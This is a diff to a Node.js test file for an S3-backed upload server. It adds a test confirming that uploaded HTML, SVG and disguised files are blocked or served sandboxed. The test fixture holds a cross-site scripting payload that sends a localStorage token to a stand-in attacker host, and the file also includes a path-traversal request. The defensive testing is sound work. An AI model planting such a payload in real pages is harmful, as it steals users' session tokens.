@@ -10,7 +10,7 @@ import path from 'node:path';
 import { after, before, describe, it } from 'node:test';
 import { fileURLToPath } from 'node:url';
 import { gunzipSync } from 'node:zlib';
-import { GetObjectCommand, ListObjectsV2Command, PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
+import { DeleteObjectCommand, GetObjectCommand, ListObjectsV2Command, PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
 import sharp from 'sharp';
 import { runBackup } from '../src/backup/backup.js';
 import { runRestore } from '../src/backup/restore.js';
@@ -144,6 +144,24 @@ describe('POST /api/upload with STORAGE_URL=s3://…', () => {
     await client(s3).send(new PutObjectCommand({ Bucket: BUCKET, Key: 'outside.png', Body: 'x' }));
     assert.equal((await fetch(`${api.url}/uploads/books/.secret.png`)).status, 404);
     assert.equal((await fetch(`${api.url}/uploads/..%2F..%2Foutside.png`)).status, 404);
+  });
+
+  it('serves only the types an upload can have, sandboxed, whatever is in the bucket', async () => {
+    const page = '<!doctype html><script>fetch("https://evil.example/?" + localStorage.token)</script>';
+    for (const [name, type] of [['evil.html', 'text/html'], ['evil.svg', 'image/svg+xml'], ['page.jpg', 'text/html']]) {
+      await client(s3).send(new PutObjectCommand({ Bucket: BUCKET, Key: `site/uploads/general/${name}`, Body: page, ContentType: type }));
+    }
+    for (const name of ['evil.html', 'evil.svg']) {
+      const res = await fetch(`${api.url}/uploads/general/${name}`);
+      assert.equal(res.status, 404, name);
+      assert.doesNotMatch(await res.text(), /localStorage/, name);
+    }
+    const disguised = await fetch(`${api.url}/uploads/general/page.jpg`);
+    assert.equal(disguised.status, 200);
+    assert.equal(disguised.headers.get('content-type'), 'image/jpeg');
+    assert.equal(disguised.headers.get('x-content-type-options'), 'nosniff');
+    assert.equal(disguised.headers.get('content-security-policy'), "default-src 'none'; sandbox");
+    for (const name of ['evil.html', 'evil.svg', 'page.jpg']) await client(s3).send(new DeleteObjectCommand({ Bucket: BUCKET, Key: `site/uploads/general/${name}` }));
   });
 
   it('leaves nothing in the bucket when an upload is refused', async () => {
